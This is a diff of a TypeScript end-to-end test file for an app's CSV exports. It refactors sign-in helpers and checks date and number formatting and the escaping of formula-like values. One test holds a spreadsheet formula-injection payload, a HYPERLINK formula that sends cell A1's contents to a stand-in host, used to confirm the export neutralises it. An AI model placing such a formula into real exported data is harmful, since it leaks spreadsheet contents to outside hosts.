@@ -17,7 +17,7 @@ import {
   writeRecords,
   type TestAccount,
 } from '../support/backend';
-import { closeBrowser, newPage, signIn } from '../support/browser';
+import { closeBrowser, signedInPage } from '../support/browser';
 import { removeWithDerived, writeWithDerived } from '../integration/derivedFixtures';
 import { studentRecord } from '../integration/peopleFixtures';
 
@@ -118,8 +118,7 @@ describe('CSV exports', () => {
       { id: 'ID del pedido', created: 'Creado', expiry: 'Fecha de caducidad', total: 'Total' },
     ],
   ])('%s: orders with ISO dates and numbers', async (locale, button, columns) => {
-    const p = await newPage({ locale });
-    await signIn(p, admin.email, admin.password, { locale });
+    const p = await signedInPage(admin, { locale });
     const { rows, raw } = await exportOf(p, '/orders', orderId, button);
     expect(rows).toHaveLength(1);
     const row = rows[0]!;
@@ -130,29 +129,24 @@ describe('CSV exports', () => {
     expect(raw).toMatch(/,240\.5,3,8,2026-11-21\r?\n?$/);
     // An id starting with '-' would be a formula in Excel and Google Sheets: still marked.
     expect(row[columns.id]).toBe(`'${orderId}`);
-    await p.context().close();
   });
 
   it('students: the same date format, the formula in a name marked', async () => {
-    const p = await newPage();
-    await signIn(p, admin.email, admin.password);
+    const p = await signedInPage(admin);
     const { rows } = await exportOf(p, '/students', token.toLowerCase(), 'Export CSV');
     expect(rows).toHaveLength(1);
     const row = rows[0]!;
     expect(Object.values(row)).toContain('2026-11-21');
     expect(Object.values(row).some((v) => /T\d\d:/.test(v))).toBe(false);
     expect(Object.values(row)).toContain(`'=HYPERLINK("http://x/?"&A1,"${token}")`);
-    await p.context().close();
   });
 
   it('subjects: the original and the sale price, as numbers', async () => {
-    const p = await newPage();
-    await signIn(p, admin.email, admin.password);
+    const p = await signedInPage(admin);
     const { rows, raw } = await exportOf(p, '/subjects', `Subject ${token}`, 'Export CSV');
     expect(rows).toHaveLength(1);
     expect(rows[0]!['Original price']).toBe('40');
     expect(rows[0]!['Sale price']).toBe('36');
     expect(raw).toMatch(/,40,36(,|\r?\n?$)/);
-    await p.context().close();
   });
 });
